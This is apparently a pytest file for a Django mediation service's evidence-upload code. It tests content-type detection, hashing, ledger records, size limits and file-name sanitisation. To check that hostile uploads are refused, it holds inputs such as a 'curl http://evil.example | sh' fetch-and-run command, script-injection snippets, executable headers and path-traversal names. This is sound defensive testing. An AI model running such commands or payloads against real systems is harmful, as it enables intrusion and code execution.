"""Evidence uploads: accepted for what the content is, stored under its hash, recorded in the ledger."""

from __future__ import annotations

import hashlib
import io
from typing import Any

import pytest
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from mediation import ledger, services
from mediation.models import Case, Evidence, LedgerEntry, TerminationReason, User
from mediation.services import CaseError

MINIMAL_PDF = (
    b"%PDF-1.4\n"
    b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n"
    b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n"
    b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"
)


def png_bytes() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, format="PNG")
    return buffer.getvalue()


def upload(name: str, content: bytes, content_type: str = "application/octet-stream") -> SimpleUploadedFile:
    # The browser-declared content type is deliberately wrong or generic: it must not matter.
    return SimpleUploadedFile(name, content, content_type=content_type)


def stored_bytes(evidence: Evidence) -> bytes:
    with default_storage.open(evidence.file.name, "rb") as handle:
        return handle.read()


def test_pdf_is_stored_under_its_hash_with_both_digests_and_a_ledger_entry(
    submitted_case: Case, consumer: User
) -> None:
    evidence = services.add_evidence(
        submitted_case,
        user=consumer,
        upload=upload("信用卡账单.pdf", MINIMAL_PDF, "application/pdf"),
        description="2024年3月账单",
        ip="192.0.2.10",
    )

    evidence.refresh_from_db()
    assert evidence.content_type == "application/pdf"
    assert evidence.size == len(MINIMAL_PDF)
    assert evidence.sha256 == hashlib.sha256(MINIMAL_PDF).hexdigest()
    assert evidence.sm3 == hashlib.new("sm3", MINIMAL_PDF).hexdigest()
    assert evidence.original_name == "信用卡账单.pdf"
    assert evidence.uploaded_by == consumer
    assert stored_bytes(evidence) == MINIMAL_PDF
    entry = LedgerEntry.objects.filter(action="mediation.evidence.uploaded").get()
    assert (entry.actor, entry.case, entry.ip) == (consumer, submitted_case, "192.0.2.10")
    assert entry.data["sha256"] == evidence.sha256 and entry.data["sm3"] == evidence.sm3
    assert entry.data["evidence"] == evidence.pk
    assert ledger.verify().ok


def test_png_built_with_pillow_is_accepted(submitted_case: Case, consumer: User) -> None:
    content = png_bytes()
    evidence = services.add_evidence(submitted_case, user=consumer, upload=upload("screenshot.png", content))
    assert evidence.content_type == "image/png"
    assert stored_bytes(evidence) == content


def test_pdf_named_jpg_is_accepted_as_a_pdf(submitted_case: Case, consumer: User) -> None:
    evidence = services.add_evidence(
        submitted_case, user=consumer, upload=upload("photo.jpg", MINIMAL_PDF, "image/jpeg")
    )
    assert evidence.content_type == "application/pdf"


@pytest.mark.parametrize(
    "name, content, detected",
    [
        ("合同.pdf", b"<!DOCTYPE html><html><body><script>fetch('/steal')</script></body></html>", "text/html"),
        ("invoice.pdf", b"<script>alert(document.cookie)</script>", "text/html"),
        ("readme.txt", b"#!/bin/sh\ncurl http://evil.example | sh\n", "text/x-shellscript"),
        ("seal.png", b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>', "image/svg+xml"),
        ("setup.pdf", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 200, "application/x-dosexec"),
    ],
)
def test_content_that_is_not_an_accepted_type_is_refused_naming_what_it_is(
    submitted_case: Case, consumer: User, name: str, content: bytes, detected: str
) -> None:
    with pytest.raises(CaseError) as refused:
        services.add_evidence(submitted_case, user=consumer, upload=upload(name, content, "application/pdf"))

    assert detected in str(refused.value)
    assert "PDF" in str(refused.value)  # and what would be accepted
    assert not Evidence.objects.exists()
    assert not LedgerEntry.objects.filter(action="mediation.evidence.uploaded").exists()


def test_elf_executable_is_refused(submitted_case: Case, consumer: User) -> None:
    elf = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\x00" * 200

    with pytest.raises(CaseError, match="不支持该文件类型"):
        services.add_evidence(submitted_case, user=consumer, upload=upload("bank-statement.pdf", elf))

    assert not Evidence.objects.exists()


def test_empty_file_is_refused(submitted_case: Case, consumer: User) -> None:
    with pytest.raises(CaseError, match="文件为空"):
        services.add_evidence(submitted_case, user=consumer, upload=upload("empty.pdf", b""))
    assert not Evidence.objects.exists()


def test_oversize_file_is_refused(submitted_case: Case, consumer: User, settings: Any) -> None:
    settings.EVIDENCE_MAX_BYTES = 2 * 1048576
    content = MINIMAL_PDF + b"%" + b"0" * (2 * 1048576)

    with pytest.raises(CaseError, match="不能超过 2 MB"):
        services.add_evidence(submitted_case, user=consumer, upload=upload("big.pdf", content))

    assert not Evidence.objects.exists()


def test_file_at_the_limit_is_accepted(submitted_case: Case, consumer: User, settings: Any) -> None:
    settings.EVIDENCE_MAX_BYTES = len(MINIMAL_PDF)
    assert services.add_evidence(submitted_case, user=consumer, upload=upload("exact.pdf", MINIMAL_PDF)).size == len(
        MINIMAL_PDF
    )


@pytest.mark.parametrize(
    "name",
    ["../../../etc/passwd.pdf", "..\\..\\windows\\system.pdf", "账单 2024.pdf", "a\x00b\r\n.pdf", "/absolute/path.pdf"],
)
def test_stored_path_never_uses_the_uploaders_file_name(submitted_case: Case, consumer: User, name: str) -> None:
    evidence = services.add_evidence(submitted_case, user=consumer, upload=upload(name, MINIMAL_PDF))

    sha = hashlib.sha256(MINIMAL_PDF).hexdigest()
    assert evidence.file.name.startswith(f"evidence/{submitted_case.pk}/{sha[:2]}/{sha}")
    assert ".." not in evidence.file.name
    assert "pdf" not in evidence.file.name.rsplit("/", 1)[-1]
    # The name shown to people keeps no directories or control characters.
    assert "/" not in evidence.original_name and "\\" not in evidence.original_name
    assert all(ch.isprintable() for ch in evidence.original_name)


def test_same_file_twice_is_stored_twice_without_overwriting(submitted_case: Case, consumer: User) -> None:
    first = services.add_evidence(submitted_case, user=consumer, upload=upload("a.pdf", MINIMAL_PDF))
    second = services.add_evidence(submitted_case, user=consumer, upload=upload("b.pdf", MINIMAL_PDF))

    assert first.file.name != second.file.name
    assert stored_bytes(first) == stored_bytes(second) == MINIMAL_PDF


def test_upload_to_a_closed_case_is_refused(mediating_case: Case, consumer: User, mediator: User) -> None:
    services.terminate_mediation(mediating_case, actor=mediator, reason=TerminationReason.GAP_TOO_LARGE)
    entries = LedgerEntry.objects.count()

    with pytest.raises(CaseError, match="案件已结束"):
        services.add_evidence(mediating_case, user=consumer, upload=upload("late.pdf", MINIMAL_PDF))

    assert not Evidence.objects.exists()
    assert LedgerEntry.objects.count() == entries
    assert not default_storage.exists(f"evidence/{mediating_case.pk}")


def test_failed_ledger_write_leaves_no_row_and_no_file(
    submitted_case: Case, consumer: User, monkeypatch: pytest.MonkeyPatch
) -> None:
    def refuse(*args: Any, **kwargs: Any) -> LedgerEntry:
        raise RuntimeError("ledger unavailable")

    monkeypatch.setattr(ledger, "record", refuse)
    with pytest.raises(RuntimeError):
        services.add_evidence(submitted_case, user=consumer, upload=upload("a.pdf", MINIMAL_PDF))

    assert not Evidence.objects.exists()
    sha = hashlib.sha256(MINIMAL_PDF).hexdigest()
    directory = f"evidence/{submitted_case.pk}/{sha[:2]}"
    assert not default_storage.exists(directory) or default_storage.listdir(directory)[1] == []
